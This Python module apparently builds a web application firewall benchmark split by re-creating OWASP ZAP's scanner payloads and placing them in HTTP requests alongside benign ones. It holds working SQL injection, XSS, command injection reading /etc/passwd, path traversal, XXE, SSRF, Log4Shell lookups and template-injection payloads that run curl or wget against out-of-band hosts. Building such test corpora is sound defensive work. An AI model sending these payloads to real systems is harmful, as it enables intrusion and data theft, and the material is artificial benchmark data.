"""The ``fresh5`` split: the payloads OWASP ZAP's active scanner sends, placed the way ZAP places them.

ZAP (github.com/zaproxy/zap-extensions, Apache-2.0) builds each attack in Java at scan time: a rule takes
the parameter's original value, adds a prefix or suffix, fills in a sleep time, an out-of-band host or a
random number, and hands the string to an *input vector* (``Variant``) that writes it into the request.
This module re-implements that construction from the scan rules' sources (read, not copied) and writes
``attacks_fresh5.json``; ``build()`` then places every payload the way ZAP's variants do:

- ``query`` (``VariantURLQuery``): the value URL-encoded (``URLEncoder``: space as ``+``);
- ``form`` (``VariantFormQuery``): the same encoding in an ``application/x-www-form-urlencoded`` body;
- ``json`` (``VariantJSONQuery``): a JSON string value, escaped as JSON;
- ``xml`` (``VariantXMLQuery``): element text, XML-escaped;
- ``multipart`` (``VariantMultipartFormParameters``): the raw value in one form-data part;
- ``path`` (``VariantURLPath``): one path segment, URL-encoded like a query value;
- ``header`` (``VariantHeader``): a request header's value, raw (a request with a control character in a
  header cannot be sent, so those payloads are not placed there);
- ``cookie`` (``VariantCookie``): one cookie's value, URL-encoded.

Rules that ZAP runs against the whole request rather than a parameter keep their own placement: the XXE
rule replaces an XML body, the cloud-metadata rule forges the ``Host`` header, the MongoDB rule appends
``[$ne]``-style operators to parameter *names*, and the Spring4Shell rule adds a parameter of its own.

Where a rule appends to the original value (``<<<<ORIGINALVALUE>>>>`` in ZAP's own templates), each
location has a realistic original value (a number for half of the payloads, a word for the other half).
ZAP's random parts (sleep seconds, out-of-band hosts, template arithmetic) come from a fixed seed, so the
corpus is deterministic.

Left out, because in a single request they are not attacks a filter could recognise (see
``docs/benchmarks/2026-11-30-waf-zap.md``): the SQL error probes (a lone ``'``, ``"``, ``)``, ``NULL``),
the arithmetic probes (``3-2``), the bare LIKE probes (``%``), the eye-catchers and placebo values, the
MongoDB crash probes (``'``, ``});``), bare drive or root paths (``c:/``, ``/``), the LDAP wildcard probe
(``Jo*ny``), the CRLF probe without a line break, SSTI's bare ``zj 1234*5678 zj``, and the rules for
classes the gateway does not claim (remote file include, code injection, SSI, XPath, XSLT, format string,
buffer overflow, React2Shell's ``["$1:a:a"]``).

    python bench/waf/zap.py        # rewrites attacks_fresh5.json (benign_fresh5.json is hand-written)
"""

from __future__ import annotations

import hashlib
import json
import random
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus
from xml.sax.saxutils import escape

ORIG = "<<<<ORIGINALVALUE>>>>"
SPLIT = "fresh5"
LOCATIONS = ("path", "query", "header", "cookie", "json", "form", "xml", "multipart")
NAME_LOCATIONS = ("query", "form", "cookie", "multipart")
UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0"
BASE_HEADERS = [["user-agent", UA], ["accept", "application/json"], ["accept-language", "en-GB,en;q=0.7"]]
XML_BODY = '<?xml version="1.0" encoding="UTF-8"?>\n<order><sku>{sku}</sku><note>{note}</note><qty>2</qty></order>'


def _rng() -> random.Random:
    return random.Random(20261130)


def _oast(rng: random.Random) -> str:
    """An Interactsh-style out-of-band host (ZAP's OAST add-on: 33 characters under an oast domain)."""
    alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
    return "".join(rng.choice(alphabet) for _ in range(33)) + "." + rng.choice(("oast.pro", "oast.fun", "oast.live"))


def _callback(rng: random.Random) -> str:
    """ZAP's own callback service: the scanning host's address, a port and a random path."""
    return f"http://192.168.56.20:{rng.randint(30000, 60000)}/{rng.getrandbits(128):032x}"


def _entry(cls: str, rule: str, payload: str, where: str = "param") -> dict[str, str]:
    return {"class": cls, "rule": rule, "payload": payload, "where": where}


def _sqli(rng: random.Random) -> list[dict[str, str]]:
    out: list[dict[str, str]] = []
    comment = " -- "
    rule = "SqlInjectionScanRule (40018)"
    and_true = [" AND 1=1" + comment, "' AND '1'='1'" + comment, '" AND "1"="1"' + comment, " AND 1=1", "' AND '1'='1",
                '" AND "1"="1', "%' " + comment, '%" ' + comment]
    and_false = [" AND 1=2" + comment, "' AND '1'='2'" + comment, '" AND "1"="2"' + comment, " AND 1=2",
                 "' AND '1'='2", '" AND "1"="2', "XYZABCDEFGHIJ' " + comment, 'XYZABCDEFGHIJ" ' + comment]
    or_true = [" OR 1=1" + comment, "' OR '1'='1'" + comment, '" OR "1"="1"' + comment, " OR 1=1", "' OR '1'='1",
               '" OR "1"="1']
    union = " UNION ALL select NULL"
    unions = [union + comment, "'" + union + comment, '"' + union + comment, ")" + union + comment,
              "')" + union + comment, '")' + union + comment]
    for tail in [*and_true, *and_false, *or_true, *unions, " ASC " + comment, " DESC " + comment]:
        out.append(_entry("sqli", rule, ORIG + tail))
    sleep = "5"
    for q in ("", "'", '"'):
        out.append(_entry("sqli", "SqlInjectionMySqlScanRule (40019)",
                          ORIG + f"{q} / sleep({sleep}) " + (f"/ {q}" if q else "")))
    for clause in ("and", "where", "or"):
        for q in ("", "'", '"'):
            out.append(_entry("sqli", "SqlInjectionMySqlScanRule (40019)",
                              ORIG + f"{q} {clause} 0 in (select sleep({sleep}) )" + comment))
            tail = {"": " ", "'": " and ''='", '"': ' and ""="'}[q]
            out.append(_entry("sqli", "SqlInjectionMySqlScanRule (40019)",
                              ORIG + f"{q} {clause} 0 in (select sleep({sleep}) )" + tail))
    delay = "0:0:5"
    for pre in ("", "'", '"', ")", ") '", ') "', "))", ")) '", ')) "'):
        out.append(_entry("sqli", "SqlInjectionMsSqlTimingScanRule (40027)", ORIG + f"{pre} WAITFOR DELAY '{delay}'"
                          + comment))
    for pre, post in ((")", " ("), (") '", " ("), (') "', " ("), ("))", " (("), (")) '", " (("), (')) "', " ((")):
        out.append(_entry("sqli", "SqlInjectionMsSqlTimingScanRule (40027)", ORIG + f"{pre} WAITFOR DELAY '{delay}'"
                          + post))
    pg = "case when cast(pg_sleep(5) as varchar) > '' then 0 else 1 end"
    rule = "SqlInjectionPostgreSqlTimingScanRule (40022)"
    out += [_entry("sqli", rule, pg), _entry("sqli", rule, pg + comment), _entry("sqli", rule, "'" + pg + comment),
            _entry("sqli", rule, '"' + pg + comment)]
    out += [_entry("sqli", rule, ORIG + " / " + pg + " "), _entry("sqli", rule, ORIG + "' / " + pg + " / '"),
            _entry("sqli", rule, ORIG + '" / ' + pg + ' / "')]
    for clause in ("where", "and", "or"):
        for q in ("", "'", '"'):
            out.append(_entry("sqli", rule, ORIG + f"{q} {clause} 0 in (select {pg} )" + comment))
    ora = "DBMS_SESSION.SLEEP(5)"
    rule = "SqlInjectionOracleTimingScanRule (40021)"
    out += [_entry("sqli", rule, f"({ora})"), _entry("sqli", rule, ORIG + " AND " + ora),
            _entry("sqli", rule, ORIG + f" / ({ora}) "), _entry("sqli", rule, ORIG + f"' / ({ora}) / '"),
            _entry("sqli", rule, ORIG + f'" / ({ora}) / "')]
    for clause in ("and", "or"):
        for q in ("", "'", '"', ")"):
            out.append(_entry("sqli", rule, ORIG + f"{q} {clause} exists ({ora})" + comment))
    rule = "SqlInjectionSqLiteTimingScanRule (40024)"
    blob = "case randomblob(100000) when not null then 1 else 1 end "
    sblob = 'case randomblob(100000) when not null then "" else "" end '
    for prefix in ("", ORIG):
        star = " * " if prefix else ""
        out += [_entry("sqli", rule, prefix + star + blob), _entry("sqli", rule, prefix + "' | " + sblob + "| '"),
                _entry("sqli", rule, prefix + '" | ' + sblob + '| "'),
                _entry("sqli", rule, prefix + star + blob + "--"), _entry("sqli", rule, prefix + "' | " + sblob + "--"),
                _entry("sqli", rule, prefix + '" | ' + sblob + "--")]
    hs = '"java.lang.Thread.sleep"(5000)'
    frm = " from INFORMATION_SCHEMA.SYSTEM_COLUMNS where TABLE_NAME = 'SYSTEM_COLUMNS' and COLUMN_NAME = 'TABLE_NAME'"
    rule = "SqlInjectionHypersonicTimingScanRule (40020)"
    for pre in (";", "';", '";', ");"):
        out.append(_entry("sqli", rule, f"{pre} select {hs}{frm}{comment}"))
    out += [_entry("sqli", rule, hs), _entry("sqli", rule, ORIG + f" / {hs} "),
            _entry("sqli", rule, ORIG + f"' / {hs} / '"), _entry("sqli", rule, ORIG + f'" / {hs} / "')]
    for clause in ("and", "or"):
        for q in ("", "'", '"', ")"):
            out.append(_entry("sqli", rule, ORIG + f"{q} {clause} exists ( select {hs}{frm})" + comment))
    return out


def _xss(rng: random.Random) -> list[dict[str, str]]:
    rule = "CrossSiteScriptingScanRule (40012)"
    script = "<scrIpt>alert(1);</scRipt>"
    onerror = "<img src=x onerror=prompt()>"
    generic = [script, "\x00" + script, onerror]
    b_mouse = "<b onMouseOver=alert(1);>test</b>"
    accesskey = "accesskey='x' onclick='alert(1)' b"
    values: list[str] = []
    values += ["'\"" + s for s in generic]                      # direct attack
    values += generic                                            # body / script-breaking
    values += [";alert(1)", "javascript:alert(1);"]              # script and URL attributes
    for q in ('"', "'", ""):
        values.append(q + " src=http://badsite.com")             # tag with src
        values += [q + ">" + s for s in generic]                 # close the attribute
        values.append(q + " onMouseOver=" + q + "alert(1);")
        values.append(q + ";alert(1);" + q)                      # inside <script>
    values += ["-->" + s + "<!--" for s in generic] + ["-->" + b_mouse + "<!--"]
    values += [b_mouse, quote_plus(script)]                      # body, then double-encoded
    for tag in ("p", "div", "title", "textarea", "span"):         # close the parent tag
        values += [f"</{tag}>{s}<{tag}>" for s in generic]
    values += ["<img src=x onerror=console.log(1);>", "<svg onload=alert(1)>"]
    values += [accesskey, "tag " + accesskey, "button onclick='alert(1)'/"]
    # MUTATIONS: parentheses to backticks, <> to full-width forms, and both
    values += [script.replace("(", "`").replace(")", "`"), script.replace("<", "\uff1c").replace(">", "\uff1e"),
               script.replace("(", "`").replace(")", "`").replace("<", "\uff1c").replace(">", "\uff1e")]
    values += ["\\u003c\\u0069\\u006d\\u0067\\u0020\\u0073\\u0072\\u0063\\u003d\\u0031\\u0020\\u006f\\u006e\\u0065"
               "\\u0072\\u0072\\u006f\\u0072\\u003d\\u0061\\u006c\\u0065\\u0072\\u0074\\u0028\\u0031\\u0029\\u003e"]
    out = [_entry("xss", rule, v) for v in dict.fromkeys(values)]
    out += [_entry("xss", rule + " header splitting", ORIG + "\n\r\n\r" + s) for s in (script, onerror)]
    return out


def _uninit(cmd: str, rng: random.Random) -> str:
    """``insertUninitVar``: ``$`` and one or two random letters before every space and slash."""
    var = "$" + "".join(chr(rng.randint(97, 122)) for _ in range(rng.randint(1, 2)))
    return cmd.replace(" ", var + " ").replace("/", var + "/")


def _cmdi(rng: random.Random) -> list[dict[str, str]]:
    rule = "CommandInjectionScanRule (90020)"
    nix, win, ps = "cat /etc/passwd", "type %SYSTEMROOT%\\win.ini", "get-help"
    nul = "\x00"

    def nix_set(cmd: str) -> list[str]:
        return [f"&{cmd}&", f";{cmd};", f'"&{cmd}&"', f'";{cmd};"', f"'&{cmd}&'", f"';{cmd};'", f"\n{cmd}\n",
                f"`{cmd}`", f"||{cmd}", f"&&{cmd}", f"|{cmd}#"]

    def win_set(cmd: str) -> list[str]:
        return [f"&{cmd}", f"|{cmd}", f'"&{cmd}&"', f'"|{cmd}', f"'&{cmd}&'", f"'|{cmd}", f"run {cmd}"]

    def ps_set(cmd: str) -> list[str]:
        return [f";{cmd}", f'";{cmd}', f"';{cmd}", f";{cmd} #"]

    nix_uninit = _uninit(nix, rng)
    payloads = nix_set(nix) + nix_set(nix_uninit)
    payloads += [p + nul for p in (f";{nix}", f"&{nix}", f'"&{nix}', f'";{nix}', f"'&{nix}", f"';{nix}", f"||{nix}",
                                   f"&&{nix}")]
    payloads += [p + nul for p in (f"&{nix_uninit}", f";{nix_uninit}", f'"&{nix_uninit}', f'";{nix_uninit}',
                                   f"'&{nix_uninit}", f"';{nix_uninit}", f"||{nix_uninit}", f"&&{nix_uninit}")]
    payloads += win_set(win) + [p + nul for p in (f"&{win}", f"|{win}", f'"&{win}', f'"|{win}', f"'&{win}",
                                                  f"'|{win}", f"run {win}")]
    payloads += ps_set(ps)
    sleep_nix, sleep_win, sleep_ps = "sleep 5", "timeout /T 5", "start-sleep -s 5"
    payloads += nix_set(sleep_nix) + nix_set(_uninit(sleep_nix, rng)) + win_set(sleep_win) + ps_set(sleep_ps)
    out = [_entry("cmdi", rule, ORIG + p) for p in dict.fromkeys(payloads)]
    rule = "ShellShockScanRule (10048)"
    out += [_entry("cmdi", rule, "() { :;}; echo 'X-Powered-By: ShellShock-Vulnerable'"),
            _entry("cmdi", rule, "() { :;}; /bin/sleep 5")]
    return out


def _traversal(rng: random.Random) -> list[dict[str, str]]:
    rule = "PathTraversalScanRule (6)"
    up = "../" * 16
    back = "..\\" * 16
    ini, bini = "Windows/system.ini", "Windows\\system.ini"
    win_files = ["c:/" + ini, up + ini, "c:\\" + bini, back + bini, "/" + up + ini, "\\" + back + bini, ini, bini,
                 "file:///c:/" + ini, "file:///c:\\" + bini, "file:\\\\\\c:\\" + bini, "file:\\\\\\c:/" + ini,
                 "d:\\" + bini, "d:/" + ini, "file:///d:/" + ini, "file:///d:\\" + bini, "file:\\\\\\d:\\" + bini,
                 "file:\\\\\\d:/" + ini]
    nix_files = ["/etc/passwd", up + "etc/passwd", "/" + up + "etc/passwd", "etc/passwd", "file:///etc/passwd",
                 "file:\\\\\\etc/passwd"]
    values: list[str] = []
    for target in win_files + nix_files:   # INSANE: each target, then with a NUL, then NUL + the value's extension
        values += [target, target + "\x00", target + "\x00.pdf"]
    values += [back, "\\" + back, "file:///c:/", "file:///c:\\", "file:\\\\\\c:\\", "file:\\\\\\c:/", "file:\\\\\\",
               "file:///d:/", "file:///d:\\", "file:\\\\\\d:\\", "file:\\\\\\d:/", up, "/" + up, "file:///"]
    slash, bslash = "WEB-INF/web.xml", "WEB-INF\\web.xml"
    for _ in range(4):
        values += [slash, bslash, "/" + slash, "\\" + bslash]
        slash, bslash = "../" + slash, "..\\" + bslash
    return [_entry("traversal", rule, v) for v in dict.fromkeys(values)]


def _ssrf(rng: random.Random) -> list[dict[str, str]]:
    out = []
    for _ in range(2):
        host = _oast(rng)
        out += [_entry("ssrf", "SsrfScanRule (40046)", "http://" + host),
                _entry("ssrf", "SsrfScanRule (40046)", "https://" + host)]
    out.append(_entry("ssrf", "SsrfScanRule (40046) callback service", _callback(rng)))
    for host in ("169.254.169.254", "aws.zaproxy.org", "100.100.100.200", "alibaba.zaproxy.org"):
        out.append(_entry("ssrf", "CloudMetadataScanRule (90034)", host, "host"))
    return out


def _nosqli(rng: random.Random) -> list[dict[str, str]]:
    out = []
    rule = "MongoDbInjectionScanRule (40033)"
    for op, value in (("[$ne]", ""), ("[$regex]", ".*"), ("[$gt]", "0"), ("[$eq]", "")):
        out.append(_entry("nosqli", rule, json.dumps([op, value]), "name"))
    for op, value in (("$ne", "0"), ("$gt", ""), ("$regex", ".*")):
        out.append(_entry("nosqli", rule, json.dumps({"note": {op: value}}, separators=(",", ":")), "json"))
    rule = "MongoDbInjectionTimingScanRule (90039)"
    for p in ("\"); sleep(5); print(\"", "'; sleep(5); print('", "0); sleep(5); print(\"", "'; sleep(5); var x='",
              "\"; sleep(5); var x=\"", "0; sleep(5)", "zap' || sleep(5) && 'zap'=='zap",
              "zap\" || sleep(5) && \"zap\"==\"zap", "0 || sleep(5)", "zap') || sleep(5) && hex_md5('zap",
              "zap\") || sleep(5) && md5(\"zap", "0)  || sleep(5)",
              "_id);}, function(inj) { sleep(5);return 1;}, { out: 'x'}); "
              "db.injection.mapReduce(function() { emit(1,1"):
        out.append(_entry("nosqli", rule, ORIG + p))
    return out


def _ldapi(rng: random.Random) -> list[dict[str, str]]:
    rule = "LdapInjectionScanRule (40015)"
    out = [_entry("ldapi", rule, "|!<>=~=>=<=*(),+-\"'\\/")]
    for n in (1, 2, 3, 4, 8, 16):
        out.append(_entry("ldapi", rule, ORIG + ")" * n + "(" * n + "objectClass=*"))
    return out


def _xxe(rng: random.Random) -> list[dict[str, str]]:
    rule = "XxeScanRule (90023)"
    header = ('<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE foo [\n  <!ELEMENT foo ANY >\n'
              '  <!ENTITY zapxxe SYSTEM "{0}">\n]>\n')
    files = ["file:///etc/passwd", "file:///c:/Windows/system.ini", "file:///d:/Windows/system.ini"]
    host = _oast(rng)
    targets = [_callback(rng), "http://" + host, "https://" + host, *files]
    out = [_entry("xxe", rule, header.replace("{0}", t) + "<foo>&zapxxe;</foo>", "xml-body") for t in targets]
    # local file reflection: every element value of the original body replaced by the entity
    lfr = "<order><sku>&zapxxe;</sku><note>&zapxxe;</note><qty>&zapxxe;</qty></order>"
    out += [_entry("xxe", rule + " reflection", header.replace("{0}", f) + lfr, "xml-body") for f in files]
    return out


def _ssti(rng: random.Random) -> list[dict[str, str]]:
    rule = "SstiScanRule (90035)"
    out = [_entry("ssti", rule, p) for p in ("<%={{={@{#{${zj}}%>", '<th:t="${zj}#foreach')]
    formats = [("{", "}", None), ("${", "}", None), ("#{", "}", None), ("{#", "}", None), ("{@", "}", None),
               ("{{", "}}", None), ("{{=", "}}", None), ("<%=", "%>", None), ("#set($x=", ")${x}", None),
               ('<p th:text="${', '}"></p>', None), ("{", "}", '{@math key="%d" method="multiply" operand="%d"/}'),
               ("{{", "}}", "{{%d0|add:%d0}}"), ("{", "}", '{{print "%d" "%d"}}')]
    for start, end, fmt in formats:
        a, b = rng.randint(1111, 9900), rng.randint(1111, 9900)
        expr = (fmt % (a, b)) if fmt else f"{start}{a}*{b}{end}"
        out.append(_entry("ssti", rule, "zj" + expr + "zj"))
        for fix in ('"', "'", "1", ""):                  # INSANE: close a code context, then the template tag
            out.append(_entry("ssti", rule, fix + end + "zj" + expr + "zj"))
    rule = "SstiBlindScanRule (90036)"
    templates = ['<#assign ex="freemarker.template.utility.Execute"?new()> ${ ex("X_COMMAND_X") }',
                 '#set($engine="")\n#set($proc=$engine.getClass().forName("java.lang.Runtime").getRuntime()'
                 '.exec("X_COMMAND_X"))\n#set($null=$proc.waitFor())\n${null}',
                 "{{= global.process.mainModule.require('child_process').execSync('X_COMMAND_X').toString() }}",
                 "<%= global.process.mainModule.require('child_process').execSync('X_COMMAND_X').toString()%>",
                 "#{global.process.mainModule.require('child_process').execSync('X_COMMAND_X').toString()}",
                 "{{range.constructor(\"return eval(\\\"global.process.mainModule.require('child_process')"
                 ".execSync('X_COMMAND_X').toString()\\\")\")()}}",
                 '{system("X_COMMAND_X")}',
                 '{{"".__class__.__mro__[1].__subclasses__()[157].__repr__.__globals__.get("__builtins__")'
                 '.get("__import__")("subprocess").check_output("X_COMMAND_X")}}',
                 '${__import__("subprocess").check_output("X_COMMAND_X", shell=True)}',
                 '{{__import__("subprocess").check_output("X_COMMAND_X", shell=True)}}',
                 "<%=%x(X_COMMAND_X)%>", "#{%x(X_COMMAND_X)}"]
    host = _oast(rng)
    for t in templates:
        for cmd in ("sleep 5", f"curl http://{host}", f"wget http://{host}"):
            out.append(_entry("ssti", rule, t.replace("X_COMMAND_X", cmd)))
    a, b = rng.randint(100000, 999999), rng.randint(100000, 999999)
    out.append(_entry("ssti", "ExpressionLanguageInjectionScanRule (90025)", f"${{{a}+{b}}}"))
    return out


def _jndi(rng: random.Random) -> list[dict[str, str]]:
    rule = "Log4ShellScanRule (40043)"
    patterns = ["${jndi:ldap://{0}/abc}", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://{0}/abc}",
                "${${::-j}ndi:rmi://{0}/abc}", "${jndi:rmi://{0}/abc}", "${${lower:jndi}:${lower:rmi}://{0}/abc}",
                "${${lower:${lower:jndi}}:${lower:rmi}://{0}/abc}",
                "${${lower:j}${lower:n}${lower:d}i:${lower:rmi}://{0}/abc}",
                "${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}://{0}/abc}",
                "${jndi:dns://{0}/abc}", "${jndi:${lower:l}${lower:d}a${lower:p}://{0}/abc}",
                "${jndi:ldap://127.0.0.1#a.{0}:1389/abc}", "${jndi:ldap://127.0.0.1#a.{0}/abc}",
                "${jndi:ldap://localhost#a.{0}/abc}"]
    out = [_entry("jndi", rule, p.replace("{0}", _oast(rng))) for p in patterns]
    for p in ("${url:UTF-8:http://{0}/bingo}", "${url:UTF-8:https://{0}/bingo}"):
        out.append(_entry("jndi", "Text4ShellScanRule (40047)", p.replace("{0}", _oast(rng))))
    return out


def _crlf(rng: random.Random) -> list[dict[str, str]]:
    rule = "CrlfInjectionScanRule (40003)"
    tamper = "Set-cookie: Tamper=" + str(__import__("uuid").UUID(int=rng.getrandbits(128), version=4))
    return [_entry("crlf", rule, v) for v in (f"any\r\n{tamper}", f"any?\r\n{tamper}", f"any\n{tamper}",
                                              f"any?\n{tamper}", f"any\r\n{tamper}\r\n", f"any?\r\n{tamper}\r\n")]


def _proto(rng: random.Random) -> list[dict[str, str]]:
    return [_entry("proto", "Spring4ShellScanRule (40045)", "class.module.classLoader.DefaultAssertionStatus=nonsense",
                   "extra-param")]


def payloads() -> dict[str, list[dict[str, str]]]:
    rng = _rng()
    out: dict[str, list[dict[str, str]]] = {}
    for make in (_sqli, _xss, _cmdi, _traversal, _ssrf, _nosqli, _ldapi, _xxe, _ssti, _jndi, _crlf, _proto):
        for e in make(rng):
            out.setdefault(e.pop("class"), []).append(e)
    return out


# ---------------------------------------------------------------------------------------------------------------
# placement

def _orig(location: str, numeric: bool) -> str:
    if location == "header":
        return "42" if numeric else "https://shop.example.com/catalogue?page=2"
    return "42" if numeric else "blue"


def _has_ctl(value: str) -> bool:
    return any(ord(c) < 0x20 or ord(c) == 0x7F for c in value)


def _header_value(value: str) -> str:
    return "".join(c if ord(c) < 0x80 else quote(c, safe="") for c in value)


def _multipart(fields: list[tuple[str, str]], seed: str) -> tuple[str, str]:
    boundary = "----zap" + hashlib.sha256(seed.encode()).hexdigest()[:24]
    parts = "".join(f'--{boundary}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n' for k, v in fields)
    return parts + f"--{boundary}--\r\n", f"multipart/form-data; boundary={boundary}"


def place(value: str, location: str, seed: str, name: str = "note") -> dict[str, Any] | None:
    """One request with ``value`` as the ``name`` parameter at ``location``, other parameters as they were."""
    headers = [list(h) for h in BASE_HEADERS]
    req: dict[str, Any] = {"method": "GET", "target": "/api/v2/products?category=shoes&page=2", "headers": headers,
                           "body": None}
    if location == "path":
        req["target"] = "/api/v2/products/" + quote_plus(value) + "/reviews?page=2"
    elif location == "query":
        req["target"] = f"/api/v2/products?category=shoes&{name}={quote_plus(value)}&page=2"
    elif location in ("header", "cookie"):
        if _has_ctl(value):
            return None  # an HTTP client cannot put a control character in a header
        if location == "header":
            hname = ("referer", "x-client-ref", "user-agent")[int(hashlib.sha256(seed.encode()).hexdigest(), 16) % 3]
            headers[:] = [h for h in headers if h[0] != hname] + [[hname, _header_value(value)]]
        else:
            headers.append(["cookie", f"session=8f14e45fceea167a5a36dedd4bea2543; {name}={quote(value, safe='')}"])
    else:
        req["method"], req["target"] = "POST", "/api/v2/orders"
        if location == "json":
            body, ctype = json.dumps({"sku": "SKU-1042", name: value, "qty": 2}, ensure_ascii=False), "application/json"
        elif location == "form":
            body, ctype = f"sku=SKU-1042&{name}={quote_plus(value)}&qty=2", "application/x-www-form-urlencoded"
        elif location == "xml":
            body, ctype = XML_BODY.format(sku="SKU-1042", note=escape(value)), "application/xml"
        else:
            body, ctype = _multipart([("sku", "SKU-1042"), (name, value), ("qty", "2")], seed)
        headers.append(["content-type", ctype])
        req["body"] = body
    return req


def _place_special(entry: dict[str, str], seed: str) -> list[tuple[str, dict[str, Any]]]:
    """Requests of the rules that do not write into one parameter value."""
    where, payload = entry["where"], entry["payload"]
    headers = [list(h) for h in BASE_HEADERS]
    if where == "xml-body":
        return [("xml-body", {"method": "POST", "target": "/api/v2/orders", "body": payload,
                              "headers": [*headers, ["content-type", "application/xml"]]})]
    if where == "host":
        return [("host", {"method": "GET", "target": "/latest/meta-data/", "body": None,
                          "headers": [["host", payload], *headers]})]
    if where == "extra-param":
        return [("query", {"method": "GET", "target": "/api/v2/products?category=shoes&page=2&" + payload,
                           "headers": headers, "body": None}),
                ("form", {"method": "POST", "target": "/api/v2/orders", "body": "sku=SKU-1042&qty=2&" + payload,
                          "headers": [*headers, ["content-type", "application/x-www-form-urlencoded"]]})]
    if where == "json":
        req = place(payload, "json", seed)
        return [("json", req)] if req else []
    if where == "name":
        op, value = json.loads(payload)
        out: list[tuple[str, dict[str, Any]]] = []
        for loc in NAME_LOCATIONS:
            req = place(value, loc, seed, name="note" + op)
            if req is not None:
                out.append((loc, req))
        return out
    raise ValueError(where)


def build(here: Path, split: str = SPLIT) -> list[dict[str, Any]]:
    attacks: dict[str, list[dict[str, str]]] = json.loads((here / f"attacks_{split}.json").read_text())
    benign: dict[str, Any] = json.loads((here / f"benign_{split}.json").read_text())
    items: list[dict[str, Any]] = []
    for cls, entries in attacks.items():
        for i, entry in enumerate(entries):
            seed = f"{split}-{cls}-{i}"
            if entry["where"] != "param":
                for loc, req in _place_special(entry, seed):
                    items.append({"id": f"{seed}-{loc}", "label": "attack", "class": cls, "location": loc,
                                  "split": split, **req})
                continue
            for loc in LOCATIONS:
                value = entry["payload"].replace(ORIG, _orig(loc, i % 2 == 0))
                req = place(value, loc, seed)
                if req is not None:
                    items.append({"id": f"{seed}-{loc}", "label": "attack", "class": cls, "location": loc,
                                  "split": split, **req})
    for category, values in benign["values"].items():
        for i, value in enumerate(values):
            for loc in LOCATIONS:
                if loc == "path" and (len(value) > 60 or any(c.isspace() or c in "/\\" for c in value)):
                    continue
                seed = f"{split}-{category}-{i}"
                req = place(value, loc, seed, name=benign["fields"].get(category, "note"))
                if req is not None:
                    items.append({"id": f"{seed}-{loc}", "label": "benign", "class": category, "location": loc,
                                  "split": split, **req})
    for i, doc in enumerate(benign["requests"]):
        headers = [list(h) for h in BASE_HEADERS] + [list(h) for h in doc.get("headers", [])]
        body = doc.get("body")
        if isinstance(body, dict | list):
            body = json.dumps(body, ensure_ascii=False)
        items.append({"id": f"{split}-request-{i}", "label": "benign", "class": "request:" + doc["api"],
                      "location": doc["location"], "split": split, "method": doc["method"], "target": doc["target"],
                      "headers": headers, "body": body})
    return items


if __name__ == "__main__":
    here = Path(__file__).resolve().parent
    data = payloads()
    (here / f"attacks_{SPLIT}.json").write_text(json.dumps(data, indent=1, ensure_ascii=False) + "\n")
    print({k: len(v) for k, v in data.items()}, sum(len(v) for v in data.values()))
